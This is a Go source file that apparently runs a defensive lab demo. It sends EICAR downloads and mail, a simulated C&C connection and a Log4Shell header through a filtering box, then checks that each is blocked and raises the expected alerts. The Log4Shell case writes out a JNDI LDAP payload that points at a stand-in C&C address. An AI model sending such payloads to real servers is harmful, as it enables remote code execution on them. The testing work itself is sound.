package lab

import (
	"context"
	"fmt"
	"io"
	"strings"
	"sync"
	"time"
)

// CaseResult is the outcome of one demo case.
type CaseResult struct {
	Name     string
	Expected string
	Got      string
	Blocked  bool
	Alerts   []Alert
	OK       bool
}

// Watcher follows the monitor's alerts and prints each as it arrives.
type Watcher struct {
	mu    sync.Mutex
	seen  []Alert
	since uint64
	out   io.Writer
	stop  chan struct{}
	done  chan struct{}
}

// WatchAlerts starts polling the monitor; every new alert is printed to out.
func WatchAlerts(out io.Writer) *Watcher {
	w := &Watcher{out: out, stop: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(w.done)
		for {
			w.poll()
			select {
			case <-w.stop:
				return
			case <-time.After(200 * time.Millisecond):
			}
		}
	}()
	return w
}

func (w *Watcher) poll() {
	recs, err := Alerts(w.since)
	if err != nil {
		return
	}
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, r := range recs {
		w.since = r.Seq
		w.seen = append(w.seen, r.Alert)
		if w.out != nil {
			a := r.Alert
			fmt.Fprintf(w.out, "  [monitor] %-3s %-8s sid %-7d %s  %s -> %s\n", starStr(a.Stars), a.Alert.Action, a.Alert.SignatureID, a.Alert.Signature, a.SrcIP, a.DestIP)
		}
	}
}

// Stop ends the polling.
func (w *Watcher) Stop() { close(w.stop); <-w.done }

// All returns every alert seen so far.
func (w *Watcher) All() []Alert {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]Alert(nil), w.seen...)
}

// Count returns how many alerts were seen.
func (w *Watcher) Count() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return len(w.seen)
}

// WaitSID waits until an alert with sid has been seen after the first
// `from` alerts, and returns it.
func (w *Watcher) WaitSID(from, sid int, d time.Duration) (Alert, bool) {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		w.mu.Lock()
		for _, a := range w.seen[min(from, len(w.seen)):] {
			if a.Alert.SignatureID == sid {
				w.mu.Unlock()
				return a, true
			}
		}
		w.mu.Unlock()
		time.Sleep(100 * time.Millisecond)
	}
	return Alert{}, false
}

func starStr(n int) string {
	if n < 1 || n > 3 {
		return "?"
	}
	return strings.Repeat("★", n)
}

// Sids of the alerts the cases expect.
const (
	SIDAV         = 2210001
	SIDAVMail     = 2210002
	SIDIncident   = 2220020 // AV and C&C on one host
	SIDAVRetry    = 2210003 // a request for a URL whose file was neutralised
	SIDCNCDNS     = 2220001
	SIDCNCLearned = 2220003
	SIDLog4Shell  = 2200001
	SIDRestart    = 2230001
)

// RunCases drives the five cases of the demo through the box and checks
// what the client got and what the monitor received.
func (l *Lab) RunCases(ctx context.Context, w *Watcher, out io.Writer) []CaseResult {
	var res []CaseResult
	say := func(format string, a ...any) { fmt.Fprintf(out, format+"\n", a...) }

	// 1. EICAR download.
	say("\n▶ 1. The office client downloads the EICAR test file: http://%s/eicar.com", WebDomain)
	from := w.Count()
	r, err := l.Fetch(ctx, "http://"+WebDomain+"/eicar.com", "--timeout", "5s")
	c := CaseResult{Name: "EICAR download", Expected: "transfer cut, ★★★ AV alert"}
	a, ok := w.WaitSID(from, SIDAV, 10*time.Second)
	c.Blocked = err == nil && !r.Complete && r.SHA256 != SHA256(EICAR)
	c.Got = fmt.Sprintf("client received %d of %d bytes (%s)", r.Bytes, len(EICAR), short(r.Error))
	if ok {
		c.Alerts = append(c.Alerts, a)
	}
	c.OK = c.Blocked && ok && a.Stars == 3 && a.Alert.Action == "blocked"
	res = append(res, c)

	// 2. C&C lookup and connection.
	say("\n▶ 2. The client looks up %s (on the C&C list) and connects to it", CNCDomain)
	from = w.Count()
	r, err = l.Fetch(ctx, "http://"+CNCDomain+"/", "--timeout", "5s")
	c = CaseResult{Name: "C&C contact", Expected: "★★ lookup alert, connection blocked with ★★★"}
	a1, ok1 := w.WaitSID(from, SIDCNCDNS, 10*time.Second)
	a2, ok2 := w.WaitSID(from, SIDCNCLearned, 10*time.Second)
	c.Blocked = err == nil && r.Status == 0 && r.Error != ""
	c.Got = fmt.Sprintf("connection failed: %s", short(r.Error))
	if ok1 {
		c.Alerts = append(c.Alerts, a1)
	}
	if ok2 {
		c.Alerts = append(c.Alerts, a2)
	}
	c.OK = c.Blocked && ok1 && ok2 && a1.Stars == 2 && a2.Stars == 3 && a2.Alert.Action == "blocked"
	res = append(res, c)

	// 3. Log4Shell exploit attempt.
	say("\n▶ 3. The client sends a Log4Shell exploit in a header: X-Api-Version: ${jndi:ldap://...}")
	from = w.Count()
	r, err = l.Fetch(ctx, "http://"+WebDomain+"/search?q=report", "--timeout", "3s",
		"--header", "X-Api-Version: ${jndi:ldap://"+CNCIP+"/"+CanaryExploit+"}")
	c = CaseResult{Name: "Log4Shell exploit", Expected: "request dropped, IPS alert sid 2200001"}
	a, ok = w.WaitSID(from, SIDLog4Shell, 10*time.Second)
	c.Blocked = err == nil && r.Status == 0 && r.Error != ""
	c.Got = fmt.Sprintf("request never answered: %s", short(r.Error))
	if ok {
		c.Alerts = append(c.Alerts, a)
	}
	c.OK = c.Blocked && ok && a.Alert.Action == "blocked"
	res = append(res, c)

	// 4. EICAR mailed as an attachment.
	say("\n▶ 4. The client mails an attachment carrying EICAR to %s:25 (SMTP)", WebIP)
	from = w.Count()
	before := l.SMTPAccepted()
	m, err := l.Mail(ctx, true)
	c = CaseResult{Name: "EICAR by mail", Expected: "message never accepted, ★★★ AV alert"}
	a, ok = w.WaitSID(from, SIDAVMail, 10*time.Second)
	c.Blocked = err == nil && !m.Accepted && l.SMTPAccepted() == before
	c.Got = fmt.Sprintf("the mail server accepted %d messages; client: %s", l.SMTPAccepted()-before, short(m.Error))
	if ok {
		c.Alerts = append(c.Alerts, a)
	}
	c.OK = c.Blocked && ok && a.Stars == 3 && a.Alert.Action == "blocked" && a.Email != nil && a.Email.Subject == "Invoice November"
	res = append(res, c)

	// 5. Benign browsing, a multi-megabyte download and a clean mail.
	say("\n▶ 5. The client browses http://%s/, downloads a 5 MB file and mails a clean attachment", WebDomain)
	from = w.Count()
	before = l.SMTPAccepted()
	clean, errMail := l.Mail(ctx, false)
	const size = 5_000_000
	p, err1 := l.Fetch(ctx, "http://"+WebDomain+"/index.html", "--timeout", "10s")
	big, err2 := l.Fetch(ctx, fmt.Sprintf("http://%s/big.bin?size=%d", WebDomain, size), "--timeout", "30s")
	time.Sleep(1500 * time.Millisecond) // an alert would be at the monitor by now
	c = CaseResult{Name: "Benign traffic", Expected: "passes byte-identical, mail accepted, no alert"}
	pageOK := err1 == nil && p.Status == 200 && p.SHA256 == SHA256(Page())
	bigOK := err2 == nil && big.Status == 200 && big.Complete && big.SHA256 == SHA256(BigBody(size))
	mailOK := errMail == nil && clean.Accepted && l.SMTPAccepted() == before+1
	c.Got = fmt.Sprintf("page %s, %d-byte download %s, mail %s", okStr(pageOK), big.Bytes, okStr(bigOK), map[bool]string{true: "accepted", false: "NOT ACCEPTED: " + clean.Error}[mailOK])
	newAlerts := w.All()[from:]
	c.Alerts = newAlerts
	c.OK = pageOK && bigOK && mailOK && len(newAlerts) == 0
	res = append(res, c)
	return res
}

func okStr(ok bool) string {
	if ok {
		return "byte-identical"
	}
	return "DIFFERENT OR FAILED"
}

func short(s string) string {
	if s == "" {
		return "no error"
	}
	if i := strings.LastIndex(s, ": "); i >= 0 && len(s)-i < 60 {
		return s[i+2:]
	}
	if len(s) > 60 {
		return s[:60] + "…"
	}
	return s
}

// PrintSummary prints the results and reports whether all cases behaved.
func PrintSummary(out io.Writer, res []CaseResult) bool {
	all := true
	fmt.Fprintf(out, "\n%-20s %-8s %-9s %-12s %s\n", "CASE", "RESULT", "TRAFFIC", "ALERTS", "WHAT HAPPENED")
	for _, c := range res {
		verdict := "ok"
		if !c.OK {
			verdict, all = "FAILED", false
		}
		traffic := "passed"
		if c.Blocked {
			traffic = "blocked"
		}
		var stars []string
		for _, a := range c.Alerts {
			stars = append(stars, starStr(a.Stars))
		}
		al := strings.Join(stars, " ")
		if al == "" {
			al = "none"
		}
		fmt.Fprintf(out, "%-20s %-8s %-9s %-12s %s (expected: %s)\n", c.Name, verdict, traffic, al, c.Got, c.Expected)
	}
	return all
}
